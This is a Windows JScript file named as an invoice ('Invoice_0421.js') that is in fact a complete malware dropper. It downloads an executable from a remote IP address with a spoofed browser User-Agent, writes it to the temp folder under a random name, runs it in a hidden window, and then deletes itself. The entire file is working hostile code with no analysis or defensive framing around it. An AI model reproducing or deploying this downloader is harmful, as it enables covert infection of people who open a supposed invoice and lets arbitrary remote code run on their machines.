// Invoice_0421.js
var url = "http://203.0.113.77/docs/invoice_0421.exe";
var sh = new ActiveXObject("WScript.Shell");
var fso = new ActiveXObject("Scripting.FileSystemObject");
var tmp = sh.ExpandEnvironmentStrings("%TEMP%") + "\\" + "inv" + Math.floor(Math.random() * 90000 + 10000) + ".exe";
var http = new ActiveXObject("MSXML2.XMLHTTP");
http.open("GET", url, false);
http.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
http.send();
if (http.status == 200) {
    var st = new ActiveXObject("ADODB.Stream");
    st.Open();
    st.Type = 1;
    st.Write(http.ResponseBody);
    st.Position = 0;
    st.SaveToFile(tmp, 2);
    st.Close();
    sh.Run("\"" + tmp + "\"", 0, false);
}
try { fso.DeleteFile(WScript.ScriptFullName, true); } catch (e) {}
